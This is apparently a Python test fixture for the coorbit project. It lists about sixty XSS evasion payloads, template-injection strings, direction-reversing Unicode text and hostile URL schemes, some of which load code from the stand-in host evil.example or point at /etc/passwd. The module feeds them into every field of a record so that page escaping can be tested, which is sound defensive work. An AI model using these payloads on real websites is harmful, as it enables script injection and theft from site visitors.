"""What would a hostile text try? Sixty ways to run script, to break out, or to deceive.

Each runs `window.__ran = 1` or `alert`, loads from `evil.example`, or turns text around, if a page
lets it. They follow the kinds of the OWASP XSS Filter Evasion Cheat Sheet.
"""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import networkx as nx

from coorbit.dates import Bounds, Span
from coorbit.network.filters import Filters
from coorbit.network.record import Actor, Record, Share, Shared

__all__ = ["PAYLOADS", "hostile_record"]

RUN = "window.__ran=1"

ELEMENTS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</ScRiPt ><sCrIpT>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror={RUN}>",
    "<img src=https://evil.example/pixel.gif>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mi//xlink:href='javascript:{RUN}'>",
    f"<body onload={RUN}>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<iframe src='javascript:parent.__ran=1'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<a href='javascript:{RUN}' autofocus tabindex=1 onfocus={RUN}>x</a>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<template><script>window.__ran=1</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
]
"""Markup that runs or loads."""

BREAKS = [
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f"`-({RUN})-`",
    f'";{RUN};//',
    f"';{RUN};//",
    f'\\";{RUN};//',
    f"}};{RUN};{{",
    f"]}}</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"\u2028{RUN}//\u2029",
    f"\x00<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    "%3Cscript%3Ewindow.__ran=1%3C/script%3E",
]
"""Ways out of an attribute, a string, a comment or an element."""

TEMPLATES = [
    "{{ 7 * 7 }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${window.__ran=1}#{7*7}<%= 7*7 %>",
]
"""What template engines would compute."""

DECEITS = [
    "\u202egpj.exe\u202c",
    "\u2066\u202eRussia\u2069 and \u202bnothing",
    "K\u200ba\u200cz\u200d\u2060\ufeffakh\u0301\u0301\u0301\u0301\u0301stan",
    "A" * 4000,
]
"""Text that turns around, hides or floods."""

PAYLOADS = [*ELEMENTS, *BREAKS, *TEMPLATES, *DECEITS]

ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    "//evil.example/x",
    f"https:javascript:{RUN}",
    f'http://" onmouseover="{RUN}',
    "blob:https://evil.example/x",
]
"""Addresses that no page may turn into a link."""


def hostile_record(texts: list[str], address: str) -> tuple[Record, nx.Graph[str]]:
    """Return a record and its graph: `texts` wherever text stands, `address` in every source.

    Each text has an actor, a claim, an endeavour and a step of the story of its own; the first
    stands in title, subtitle and citation too.
    """
    texts = (texts * 3)[: max(3, len(texts))]
    moment = Bounds(datetime(1998, 1, 1, tzinfo=UTC), datetime(1999, 1, 1, tzinfo=UTC))
    actors = tuple(_actor(number, text) for number, text in enumerate(texts))
    claims = {
        f"{a.iri}/claim": _claim(a.iri, t, address) for a, t in zip(actors, texts, strict=True)
    }
    named = list(claims)
    shared = tuple(
        Shared(
            f"https://w3id.org/coorbit/agreement/{number}{text}",
            f"Agreement {text}",
            "agreement",
            f"partners{text}",
            1.0,
            tuple(
                Share(node, Span(moment, moment), "inEffect", None, named[node])
                for node in (number, (number + 1) % len(texts))
            ),
        )
        for number, text in enumerate(texts)
    )
    names = ("title", "subtitle", "citation")
    about = {**{name: f"{name} {texts[0]}" for name in names}, "as_of": "2026-11-20"}
    graph: nx.Graph[str] = nx.Graph()
    for actor in actors:
        graph.add_node(actor.iri, label=actor.label, kind=actor.kind)
    for number, actor in enumerate(actors):
        other = actors[(number + 1) % len(actors)].iri
        graph.add_edge(actor.iri, other, weight=1.0, certain=True, prospective=False, evidence=[{}])
    story = _story(texts, address)
    return Record(about, Filters(), actors, shared, claims, story), graph


def _actor(number: int, text: str) -> Actor:
    return Actor(
        iri=f"https://w3id.org/coorbit/nation/{number}{text}",
        label=f"Actor {number} {text}",
        kind="nation" if number < 2 else f"igo{text}",
        code=("KZ", "RU")[number] if number < 2 else text[:2],
        place=(150 * number, 90 * (number % 2)),
        names=((f"en{text}", f"Name {text}"),),
    )


def _source(text: str, address: str) -> dict[str, str]:
    return {
        "source": f"source{text}",
        "title": f"Source {text}",
        "publisher": text,
        "date": text,
        "url": address,
    }


def _claim(iri: str, text: str, address: str) -> dict[str, Any]:
    source = _source(text, address)
    stage = {"date": text, "status": text, "note": text, "details": {text: text}}
    return {
        "sentence": f"Sentence {text}",
        "subject": iri,
        "relation": text,
        "via": text,
        "status": text,
        "dates": text,
        "confidence": text,
        "details": {f"role{text}": text},
        "note": f"Note {text}",
        "stages": [{**stage, "sources": [source]}],
        "sources": [source],
        "contradicts": [f"https://w3id.org/coorbit/claim/{text}"],
        "independent_sources": 1,
    }


def _story(texts: list[str], address: str) -> dict[str, Any]:
    claims = {
        text: {
            **dict.fromkeys(("sentence", "dates", "status", "confidence", "note"), text),
            "stages": [text],
            "sources": [_source(text, address)],
        }
        for text in texts
    }
    steps = [
        {
            "title": f"Step {text}",
            "says": [{"text": text, "claims": [text]}],
            "times": {},
            "select": [],
            "tab": "network",
            "filters": {},
        }
        for text in texts
    ]
    return {"title": texts[0], "summary": texts[0], "steps": steps, "claims": claims}
